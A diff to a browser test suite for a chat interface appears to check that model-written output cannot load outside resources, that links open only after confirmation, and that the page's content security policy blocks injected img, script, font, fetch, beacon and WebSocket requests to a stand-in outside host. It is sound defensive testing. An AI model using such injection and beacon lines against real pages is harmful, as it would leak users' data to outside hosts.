@@ -5,6 +5,8 @@
  * HOUSE_PASSWORD the rooms of a real service are walked through as well.
  */
 
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import type { Browser } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { FETCHES, OUTSIDE } from "../attacks.mjs";
@@ -53,81 +55,78 @@ describe("what a model writes", () => {
     await links.last().focus();
     await me.page.reload();
     await links.first().waitFor();
-    expect(await prose.evaluate((node) => node.querySelectorAll("[src],[href],[srcset],[style],[ping]").length)).toBe(0);
+    expect(await prose.evaluate((node) => node.querySelectorAll("[src],[href],[srcset],[style],[ping]").length)).toBe(
+      0,
+    );
     expect(foreign(me)).toEqual([]);
     me.clean();
     await me.close();
   });
 
-  it("says where a link leads before it is followed, and only then follows it", async () => {
+  it("leads away only after it was said where to, and somebody said yes", async () => {
+    const asked: string[] = [];
+    const elsewhere = createServer((request, response) => {
+      asked.push(`${request.url} ${request.headers.referer ?? "from nowhere"}`);
+      response.end("elsewhere");
+    });
+    await new Promise<void>((listening) => elsewhere.listen(0, "127.0.0.1", listening));
+    const address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/page`;
     const me = await ada();
-    await me.page.context().route(/outside\.example/, (route) => route.abort());
-    await me.send("[outside] please");
-    await me.page.getByTestId("meta").waitFor({ timeout: 110_000 });
-    await me.page.locator('.prose [data-url="http://outside.example/bare"]').click();
-    await me.page.getByRole("dialog").getByText("http://outside.example/bare").waitFor();
-    expect(foreign(me)).toEqual([]);
-    const opened = me.page.context().waitForEvent("page");
+    await me.send(`[link ${address}]`);
+    await me.page.getByTestId("meta").waitFor();
+    await me.page.locator(".prose [data-url]").click();
+    await me.page.getByRole("dialog").getByText(address).waitFor();
+    expect([foreign(me), asked]).toEqual([[], []]);
     await me.page.getByRole("link", { name: "Open in a new tab" }).click();
-    await opened;
-    // The log that was empty above does see what is asked of somebody else.
-    await expect.poll(() => foreign(me)).toContain("http://outside.example/bare");
+    // The log that was empty until now does see what is asked of somebody else.
+    await expect.poll(() => asked).toContain("/page from nowhere");
+    expect(foreign(me)).toContain(address);
     await me.close();
+    elsewhere.close();
   });
 });
 
 describe("a page that was tricked all the same", () => {
   it("is held back by its policy", async () => {
     const me = await ada();
-    const stopped = await me.page.evaluate(async (host) => {
-      const found = new Set<string>();
-      document.addEventListener("securitypolicyviolation", (event) => found.add(event.effectiveDirective));
-      const put = (name: string, attributes: Record<string, string>) => {
-        const element = document.createElement(name);
-        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
-        document.body.append(element);
-      };
-      put("img", { src: `http://${host}/img` });
-      put("link", { rel: "stylesheet", href: `http://${host}/style` });
-      put("script", { src: `http://${host}/script` });
-      put("iframe", { src: `http://${host}/frame` });
-      put("object", { data: `http://${host}/object` });
-      put("video", { src: `http://${host}/video` });
-      put("link", { rel: "manifest", href: `http://${host}/manifest` });
-      document.body.setAttribute("style", `background:url(http://${host}/css)`);
-      new FontFace("x", `url(http://${host}/font)`).load().catch(() => {});
-      fetch(`http://${host}/fetch`).catch(() => {});
-      navigator.sendBeacon(`http://${host}/beacon`, "said");
-      try {
-        new WebSocket(`ws://${host}/socket`);
-        new EventSource(`http://${host}/events`);
-        new Worker(`http://${host}/worker`);
-      } catch {
-        // Some say so at once.
-      }
-      const form = document.createElement("form");
-      form.action = `http://${host}/form`;
-      document.body.append(form);
-      form.submit();
-      const wanted = 9;
-      for (let turn = 0; turn < 100 && found.size < wanted; turn++)
-        await new Promise((resolve) => setTimeout(resolve, 20));
-      return [...found].sort();
-    }, OUTSIDE[1]);
-    expect(stopped).toEqual(
-      expect.arrayContaining([
-        "connect-src",
-        "font-src",
-        "form-action",
-        "frame-src",
-        "img-src",
-        "media-src",
-        "object-src",
-        "script-src-elem",
-        "style-src-elem",
-      ]),
+    const wanted = ["connect", "default", "font", "img", "media", "object", "script", "style"].map(
+      (kind) => `${kind}-src`,
     );
-    expect(me.page.url().startsWith(server.url)).toBe(true);
+    const stopped = await me.page.evaluate(
+      async ({ host, kinds }) => {
+        const found = new Set<string>();
+        document.addEventListener("securitypolicyviolation", (event) =>
+          found.add(event.effectiveDirective.replace(/-(?:elem|attr)$/, "")),
+        );
+        const put = (name: string, attributes: Record<string, string>) => {
+          const element = document.createElement(name);
+          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+          document.body.append(element);
+        };
+        put("img", { src: `http://${host}/img` });
+        put("link", { rel: "stylesheet", href: `http://${host}/style` });
+        put("link", { rel: "prefetch", href: `http://${host}/prefetch` });
+        put("link", { rel: "dns-prefetch", href: "//outside.example" });
+        put("a", { href: "http://outside.example/anchor" });
+        put("script", { src: `http://${host}/script` });
+        put("object", { data: `http://${host}/object` });
+        put("video", { src: `http://${host}/video` });
+        document.body.style.background = `url(http://${host}/css)`;
+        new FontFace("x", `url(http://${host}/font)`).load().catch(() => {});
+        fetch(`http://${host}/fetch`).catch(() => {});
+        navigator.sendBeacon(`http://${host}/beacon`, "said");
+        try {
+          new WebSocket(`ws://${host}/socket`);
+        } catch {
+          // It may say so at once.
+        }
+        for (let turn = 0; turn < 200 && !kinds.every((kind) => found.has(kind)); turn++)
+          await new Promise((resolve) => setTimeout(resolve, 20));
+        return [...found].sort();
+      },
+      { host: OUTSIDE[1], kinds: wanted },
+    );
+    expect(stopped).toEqual(wanted);
     await me.close();
   });
 });
